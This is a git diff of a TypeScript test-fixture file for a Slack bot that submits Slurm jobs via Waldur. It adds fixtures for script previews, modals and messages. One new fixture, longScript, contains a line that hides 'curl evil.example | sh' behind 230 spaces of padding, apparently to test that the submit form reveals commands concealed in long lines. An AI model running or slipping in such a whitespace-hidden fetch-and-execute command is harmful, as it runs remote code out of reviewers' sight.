@@ -1,8 +1,8 @@
 import type { ModalView } from '@slack/types';
 import type { Allocation, JobDetails } from '../../src/jobs/job.ts';
-import type { Capability, Refused } from '../../src/jobs/operation.ts';
+import type { Ability, Operation, Refused } from '../../src/jobs/operation.ts';
 import { phases } from '../../src/jobs/phase.ts';
-import { readScript } from '../../src/scripts/script.ts';
+import { type Finding, readScript, type Script } from '../../src/scripts/script.ts';
 import { abilities } from '../../src/views/abilities.ts';
 import { card } from '../../src/views/card.ts';
 import { chooseJob, chooseScript } from '../../src/views/choosing.ts';
@@ -46,11 +46,11 @@ export const plainForeign: Foreign = {
 const waldurUrl = 'https://waldur.example.org';
 const nothing: Refused = new Set();
 const day = (hour: number) => new Date(Date.UTC(2026, 10, 24, hour));
-const known: Capability[] = [
-  { operation: 'pull', doubtedAt: null, refusedAt: day(9), workedAt: null, status: 409 },
-  { operation: 'delete', doubtedAt: day(9), refusedAt: null, workedAt: null, status: 500 },
-  { operation: 'unlink', doubtedAt: null, refusedAt: null, workedAt: day(9), status: 200 },
-];
+const known = new Map<Operation, Ability>([
+  ['pull', { refusedAt: day(9), workedAt: null, status: 409 }],
+  ['delete', { refusedAt: null, workedAt: null, status: 500 }],
+  ['unlink', { refusedAt: null, workedAt: day(9), status: 0 }],
+]);
 const uuid = 'd2035c217d01467ba3a1309afa2bf5c3';
 const scriptKey = 'oPBPGAoIRmK2KQ2TVLXBpQ';
 const filter = { mine: true, phases: [], project: 'two words', words: [] };
@@ -103,6 +103,32 @@ function script(foreign: Foreign) {
   const lines = ['#!/bin/bash', '#SBATCH -p gpu -t 4:00:00', 'srun ./train', '#SBATCH --mem=32G'];
   const bytes = new TextEncoder().encode(`${[...lines, foreign.text].join('\n')}\n`);
   return readScript(bytes, { maxBytes: 1_000_000 });
+}
+
+/** A script whose directives and findings have these texts in them. */
+function quotingScript(foreign: Foreign): Script {
+  const { text } = foreign;
+  const read = script(foreign);
+  const components = read.components.map((component) => ({
+    ...component,
+    ...{ partition: text, gres: text, dependency: text, begin: text, account: text, qos: text },
+    gpus: { count: 1, type: text, per: 'job' as const },
+    array: { text, tasks: 1, atATime: null },
+  }));
+  const finding: Finding = {
+    ...{ kind: 'stray', level: 'warning', lines: [3], more: 0 },
+    sentence: `"${text}" is no option.`,
+  };
+  return { ...read, components, warnings: Array(10).fill(finding) };
+}
+
+const permalink = 'https://lab.example.org/files/U0BEN00001/F0TRAIN001/train.sh';
+
+/** A script of more lines, and longer ones, than a form shows. */
+function longScript(foreign: Foreign) {
+  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
+  const lines = ['#!/bin/bash', hiding, ...Array(250).fill(`echo ${foreign.text}`), hiding, hiding];
+  return readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
 }
 
 /** Every message that the bot can say, with these foreign texts in it. */
@@ -260,6 +286,13 @@ export function messages(foreign: Foreign): Record<string, Message> {
       script: script(foreign),
       converted: false,
     }),
+    'prompt for a script that quotes': prompt({
+      scriptKey,
+      fileName: file,
+      name,
+      script: quotingScript(foreign),
+      converted: true,
+    }),
     'prompt refused': prompt({ scriptKey, fileName: file, name, script: bad, converted: false }),
     connect: connectOffer({
       purpose: 'submit',
@@ -277,6 +310,12 @@ export function messages(foreign: Foreign): Record<string, Message> {
       purpose: 'list your jobs',
       next: listed(null),
       why: 'no session',
+      waldurUrl,
+    }),
+    'deactivated in Waldur': connectOffer({
+      purpose: 'list your jobs',
+      next: listed(null),
+      why: 'deactivated',
       waldurUrl,
     }),
     connected: connected({ fullName: name, username: name, next: '' }),
@@ -309,7 +348,7 @@ export function messages(foreign: Foreign): Record<string, Message> {
       [{ usage: 'show <job>', summary: 'Everything' }],
       null,
       null,
-      abilities(known, day(15)),
+      abilities({ of: (operation) => known.get(operation) ?? null }),
     ),
   };
 }
@@ -343,10 +382,23 @@ export function modals(foreign: Foreign): Record<string, ModalView> {
     }),
     submit: submitModal({
       ...form,
-      source: { fileName: file, script: script(foreign) },
+      source: { fileName: file, script: script(foreign), permalink },
       inThread: true,
+      threadChannel: 'C0JOBS0001',
     }),
-    'submit upload': submitModal({ ...form, source: null, sharedBy: null, inThread: false }),
+    'submit a long script': submitModal({
+      ...form,
+      source: { fileName: file, script: longScript(foreign), permalink },
+      inThread: true,
+      threadChannel: null,
+    }),
+    'submit upload': submitModal({
+      ...form,
+      source: null,
+      sharedBy: null,
+      inThread: false,
+      threadChannel: null,
+    }),
     edit: editModal({ metadata: '{}', name, description: text, upload: true, problem: null }),
     unlink: unlinkModal({ name, slurmId: '48213', metadata: '{}' }),
     delete: deleteModal({ uuid, name, slurmId: '48213', metadata: '{}' }),
